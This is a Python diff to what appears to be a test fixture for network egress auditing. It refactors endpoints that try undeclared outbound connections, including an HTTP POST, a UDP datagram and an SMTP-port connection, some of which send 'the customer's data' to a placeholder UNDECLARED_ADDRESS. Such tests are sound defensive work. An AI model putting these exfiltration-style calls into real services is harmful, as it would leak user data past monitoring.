@@ -7,6 +7,7 @@ import asyncio
 import os
 import smtplib
 import socket
+from collections.abc import Awaitable
 
 import httpx
 
@@ -43,6 +44,14 @@ def _try(action: object) -> dict[str, str]:
     return _outcome(None)
 
 
+async def _try_on_the_loop(attempt: Awaitable[object]) -> dict[str, str]:
+    try:
+        await attempt
+    except Exception as exc:
+        return _outcome(exc)
+    return _outcome(None)
+
+
 @app.route("/raw-socket", auth=Auth.PUBLIC)
 async def raw_socket(_context: RequestContext) -> dict[str, str]:
     def send() -> None:
@@ -68,12 +77,11 @@ async def smtp(_context: RequestContext) -> dict[str, str]:
 
 @app.route("/own-http-client", auth=Auth.PUBLIC)
 async def own_http_client(_context: RequestContext) -> dict[str, str]:
-    try:
+    async def post() -> None:
         async with httpx.AsyncClient(timeout=2) as client:
             await client.post(f"http://{UNDECLARED_ADDRESS}/collect", content=b"the customer's data")
-    except Exception as exc:
-        return _outcome(exc)
-    return _outcome(None)
+
+    return await _try_on_the_loop(post())
 
 
 @app.route("/loopback", auth=Auth.PUBLIC)
@@ -92,22 +100,21 @@ async def declared_smtp(_context: RequestContext) -> dict[str, str]:
 @app.route("/loop-connection", auth=Auth.PUBLIC)
 async def loop_connection(_context: RequestContext) -> dict[str, str]:
     """A connection the event loop opens itself (uvloop resolves and connects in libuv, beneath the audit events)."""
-    try:
+
+    async def connect() -> None:
         _reader, writer = await asyncio.wait_for(asyncio.open_connection(UNDECLARED_HOST, 25), timeout=2)
         writer.close()
-    except Exception as exc:
-        return _outcome(exc)
-    return _outcome(None)
+
+    return await _try_on_the_loop(connect())
 
 
 @app.route("/loop-datagram", auth=Auth.PUBLIC)
 async def loop_datagram(_context: RequestContext) -> dict[str, str]:
-    try:
+    async def send() -> None:
         transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
             asyncio.DatagramProtocol, remote_addr=(UNDECLARED_ADDRESS, 514)
         )
         transport.sendto(b"the customer's data")
         transport.close()
-    except Exception as exc:
-        return _outcome(exc)
-    return _outcome(None)
+
+    return await _try_on_the_loop(send())
